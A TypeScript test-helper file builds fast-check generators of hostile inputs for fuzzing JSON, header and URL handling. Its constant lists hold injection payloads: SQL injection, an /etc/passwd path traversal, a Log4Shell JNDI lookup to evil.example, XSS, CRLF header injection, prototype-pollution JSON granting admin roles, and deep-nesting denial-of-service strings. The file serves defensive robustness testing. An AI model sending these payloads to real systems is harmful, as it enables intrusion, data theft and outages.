import fc from 'fast-check'

/** What programs choke on, as texts of JSON values and as texts of headers, queries and paths. */

const nested = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth)

/** Texts that somebody, somewhere, once read as more than a text. */
const hostileTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfffx',
  '\ufeff',
  '\u2028',
  '\u202eecarg',
  'ɡrace',
  'ｇｒａｃｅ',
  'grace\u0301',
  'İstanbul',
  'ﬃ',
  '👩‍👩‍👧‍👦',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "' OR '1'='1",
  "'; drop table account; --",
  '\\',
  '%',
  '%s%n',
  '../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker writes.
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'a\r\nset-cookie: x=1',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e400',
  '9223372036854775808',
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(1_025),
  'é'.repeat(4_000),
  '\u0301'.repeat(2_000)
]

/** Any code points, halves of pairs among them. */
const anyText = fc
  .array(fc.integer({ min: 0, max: 0x10ffff }), { maxLength: 30 })
  .map((points) => String.fromCodePoint(...points))

const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  { weight: 1, arbitrary: anyText }
)

/** JSON, or nearly: what stands where a member's value should. */
export const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      'null',
      'true',
      'false',
      '0',
      '-0',
      '-1',
      '1.5',
      '1e400',
      '1e-400',
      '9007199254740993',
      '9'.repeat(400),
      '0.1'.padEnd(300, '1'),
      '[]',
      '{}',
      '[null]',
      '[[]]',
      '["a","a"]',
      '{"":""}',
      '{"__proto__":{"roles":["admin"]}}',
      '{"constructor":{"prototype":{"x":1}}}',
      '{"a":1,"a":2}',
      '{"$ne":null}',
      '"\\u0000"',
      '"\\ud800"',
      '"\\ud83d\\ud83d"',
      '"\\u005f_proto__"',
      '"\\x41"',
      '"\u0001"',
      "'x'",
      'NaN',
      'Infinity',
      'undefined',
      '01',
      '+1',
      '0x10',
      '[1,]',
      '{"a":1,}',
      '/**/1',
      nested('[', ']', 50),
      nested('[', ']', 5_000),
      nested('{"a":', '}', 1_000).replace('{"a":}', '{}'),
      '['.repeat(8_000),
      `[${'0,'.repeat(2_000)}0]`,
      `{${Array.from({ length: 300 }, (_, n) => `"k${n}":0`).join()}}`,
      JSON.stringify('x'.repeat(15_000))
    )
  },
  { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) }
)

/** A text that a request line or a header can carry: no control character, and bytes above ASCII as they are. */
export const headerText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: hostileText.map((text) =>
      Buffer.from(text)
        .toString('latin1')
        .replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
    )
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom('x'.repeat(5_000), ',', ';', ',,,', '=', '"', '"unclosed', '\t', '*', 'q=1;q=2')
  },
  {
    weight: 1,
    arbitrary: fc.uint8Array({ maxLength: 30 }).map((bytes) =>
      Buffer.from(bytes)
        .toString('latin1')
        .replace(/[^\x20-\x7e\x80-\xff]/g, '')
    )
  }
)

/** A text for a place in an address: encoded rightly, or left as it is. */
export const addressText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileText.map((text) => encodeURIComponent(text.toWellFormed()).slice(0, 6_000)) },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '%',
      '%zz',
      '%00',
      '%ff',
      '%c0%af',
      '%e0%a4%a',
      '%2e%2e',
      '%2f',
      '%252f',
      '%0d%0aset-cookie:x=1',
      '%ud800',
      '%ed%a0%80',
      '.',
      '..',
      ';a=b',
      '~',
      '*',
      'x'.repeat(250)
    )
  },
  { weight: 1, arbitrary: fc.uuid() }
)
